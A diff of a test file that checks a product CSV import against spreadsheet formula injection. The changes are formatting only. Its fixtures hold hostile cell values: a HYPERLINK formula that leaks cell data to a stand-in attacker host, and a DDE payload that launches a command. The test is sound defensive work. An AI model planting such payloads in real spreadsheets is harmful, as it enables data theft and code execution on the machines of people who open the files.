@@ -227,7 +227,7 @@ describe('CSV cells a spreadsheet would run as formulas', () => {
   /** What a seller might type to make an operator's spreadsheet run something. */
   const formulas = {
     title_en: '=HYPERLINK("https://attacker.example/?d="&A1,"Seeds")',
-    brand_en: '+cmd|\' /C calc\'!A0',
+    brand_en: "+cmd|' /C calc'!A0",
     description_en: '-2+3',
     application_en: '@SUM(A1:A9)',
     features_en: "'=already quoted once",
@@ -280,7 +280,9 @@ describe('CSV cells a spreadsheet would run as formulas', () => {
 
   it('a quoted negative number in a numeric column is refused as the negative number it is', async () => {
     const response = await importCsv(
-      newProductsCsv(1, (_i, cells) => Object.assign(cells, { product_ref: 'negative', price: "'-5", inventory: "'-1" })),
+      newProductsCsv(1, (_i, cells) =>
+        Object.assign(cells, { product_ref: 'negative', price: "'-5", inventory: "'-1" }),
+      ),
       true,
     );
     expect(productImportResponse.parse(response.json()).data.errors).toEqual([
